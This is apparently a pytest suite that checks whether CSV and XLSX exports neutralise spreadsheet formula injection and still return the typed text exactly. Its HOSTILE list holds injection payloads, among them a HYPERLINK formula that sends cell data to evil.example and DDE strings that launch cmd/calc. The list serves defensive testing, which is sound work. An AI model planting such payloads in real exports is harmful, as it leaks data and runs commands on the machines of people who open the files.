"""A9: exports are harmless.

Cells that start with = + - @ TAB CR LF, full-width forms, quotes; in CSV and in XLSX. The bar: 0 formulas, and what
was typed comes back to the letter (RFC 4180 round trip).
"""

import csv
import io
import random
import re
import unicodedata
import zipfile
from datetime import UTC, date, datetime

import pytest
from lxml import etree

from presessions import exports
from presessions.exports import CSV, XLSX, Table

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁼", "⁺", "−"]
HOSTILE = [
    *(f"{sign}1+1" for sign in SIGNS),
    *(f" {sign}1" for sign in SIGNS),
    *(f"\u200b\ufeff{sign}cmd|' /C calc'!A0" for sign in SIGNS),
    FORMULA,
    f"\x01{FORMULA}",
    f"'{FORMULA}",
    f"''{FORMULA}",
    f'"{FORMULA}',
    f"Rights Now;{FORMULA}",  # a program that expects semicolons divides here
    f'Rights Now";{FORMULA}',
    f'Rights Now;"{FORMULA.replace("=", "")}',
    f"first line\n{FORMULA}\r\n{FORMULA}",
    f"a\t{FORMULA}",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "%0A-3+3+cmd|' /C calc'!D2",
    '=1+1",=2+2\r\n=3+3',
    "{=1+1}",
    "_x003D_1+1",
    "\x00=1",
    "'Imam Ali' Centre",
    "",
    "Права человека, «Мемориал»; Genève – ‏مركز‎ 中心\n\t• point",
]
HARMLESS = ["Rights Now", "a = b", "1-2", "mail@example.org", "O’Brien; and others"]


def read_csv(file):
    return list(csv.reader(io.StringIO(file.decode("utf-8-sig"), newline=""), strict=True))


def sheet(file, number=1):
    """Each row of a sheet: (text or number, type) of each cell."""
    with zipfile.ZipFile(io.BytesIO(file)) as book:
        strings = [
            "".join(part.text or "" for part in one.iter("{*}t"))
            for one in etree.fromstring(book.read("xl/sharedStrings.xml"))
        ]
        cells = etree.fromstring(book.read(f"xl/worksheets/sheet{number}.xml")).iter("{*}row")
        return [
            [
                (strings[int(cell.findtext("{*}v"))], "s") if cell.get("t") == "s" else (cell.findtext("{*}v"), "n")
                for cell in row
                if cell.findtext("{*}v") is not None
            ]
            for row in cells
        ]


def as_written(text):
    """XLSX cannot hold some signs as they are: it writes them as _x0001_."""
    held = re.sub(r"_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text.replace("_x005F_", "\x1a"))
    return held.replace("\x1a", "_")


def starts_a_formula(cell):
    """What looks like one once a program has skipped blanks."""
    seen = re.sub(r"\A[\s\x00-\x1f\x7f\u200b-\u200f\u2060\ufeff]+", "", cell)
    return unicodedata.normalize("NFKC", seen)[:1] in ("=", "+", "-", "@", "\u2212") and bool(seen)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_csv_starts_a_formula_wherever_a_program_divides_it(text):
    file = exports.write(Table("List", ["A", text], [[text, "after"], ["before", text]]), CSV)
    cells = [cell for row in read_csv(file) for cell in row]
    assert [cell for cell in cells if starts_a_formula(cell) or cell.startswith(("\t", "\r", "\n"))] == []
    for other in (";", "\t"):  # as read by a program that expects another separator than ours
        told = csv.reader(io.StringIO(file.decode("utf-8-sig"), newline=""), delimiter=other)
        assert [cell for row in told for cell in row if starts_a_formula(cell.strip('"'))] == []


@pytest.mark.parametrize("text", [*HOSTILE, *HARMLESS])
def test_what_was_typed_comes_back_to_the_letter(text):
    file = exports.write(Table("List", ["A", "B"], [[text, "x"], ["y", text]]), CSV)
    assert [[exports.unguarded(cell) for cell in row] for row in read_csv(file)] == [
        ["A", "B"],
        [text, "x"],
        ["y", text],
    ]


def test_so_does_whatever_else_could_be_typed():
    chance = random.Random(9)
    signs = [*SIGNS, "'", '"', ";", ",", " ", "a", "\u200b", "\x01", "é"]
    texts = ["".join(chance.choices(signs, k=chance.randrange(9))) for _ in range(20_000)]
    rows = read_csv(exports.write(Table("List", ["A"], [[text] for text in texts]), CSV))
    cells = [row[0] if row else "" for row in rows[1:]]
    assert [exports.unguarded(cell) for cell in cells] == texts
    assert not any(starts_a_formula(cell) for cell in cells)


def test_texts_that_mean_no_harm_are_left_as_they_are():
    assert [exports.guarded(text) for text in HARMLESS] == HARMLESS


def test_an_xlsx_holds_texts_and_no_formula():
    file = exports.write(Table("=List'[]", ["A", "B"], [[text, 7] for text in HOSTILE], about=[(FORMULA, "x")]), XLSX)
    with zipfile.ZipFile(io.BytesIO(file)) as book:
        inside = {name: book.read(name) for name in book.namelist()}
    for name, content in inside.items():
        if name.startswith("xl/worksheets"):
            tree = etree.fromstring(content)
            assert not list(tree.iter("{*}f", "{*}hyperlink")), name
            assert {cell.get("t") for cell in tree.iter("{*}c")} <= {"s", None}, name
    assert not [
        name for name in inside if "externalLink" in name or "vba" in name.lower() or "hyperlink" in name.lower()
    ]
    rows = sheet(file)
    assert [as_written(row[0][0]) for row in rows[1:]] == HOSTILE
    assert {row[-1] for row in rows[1:]} == {("7", "n")}


def test_a_text_that_looks_like_a_formula_stays_a_text_when_somebody_changes_it():
    """Without the mark, a click into the cell and Enter would make it a formula."""
    file = exports.write(Table("List", ["A"], [[FORMULA], ["Rights Now"]]), XLSX)
    with zipfile.ZipFile(io.BytesIO(file)) as book:
        looks = etree.fromstring(book.read("xl/styles.xml")).find("{*}cellXfs")
        cells = {
            cell.get("r"): int(cell.get("s"))
            for cell in etree.fromstring(book.read("xl/worksheets/sheet1.xml")).iter("{*}c")
        }
    marked = {place: looks[look].get("quotePrefix") for place, look in cells.items()}
    assert (marked["A2"], marked["A3"]) == ("1", None)


def test_numbers_days_and_instants_are_what_they_are_and_on_genevas_clock():
    winter = datetime(2026, 12, 31, 23, 30, tzinfo=UTC)
    table = Table("List", ["n", "day", "at", "yes", "none"], [[-3, date(2026, 3, 2), winter, True, None]])
    assert read_csv(exports.write(table, CSV))[1] == ["-3", "2026-03-02", "2027-01-01 00:30", "yes", ""]
    (first, kind), day, at, yes, *_none = sheet(exports.write(table, XLSX))[1]
    assert (first, kind, yes) == ("-3", "n", ("yes", "s"))
    assert (float(day[0]), day[1]) == ((date(2026, 3, 2) - date(1899, 12, 30)).days, "n")
    assert float(at[0]) == pytest.approx((datetime(2027, 1, 1, 0, 30) - datetime(1899, 12, 30)).total_seconds() / 86400)


def test_no_name_touches_the_disk_and_nobody_is_named_as_its_author(tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "nowhere"))  # a file there would be an error
    file = exports.write(Table("List", ["A"], [["Rights Now"]] * 3000), XLSX)
    with zipfile.ZipFile(io.BytesIO(file)) as book:
        assert not etree.fromstring(book.read("docProps/core.xml")).findtext("{*}creator")
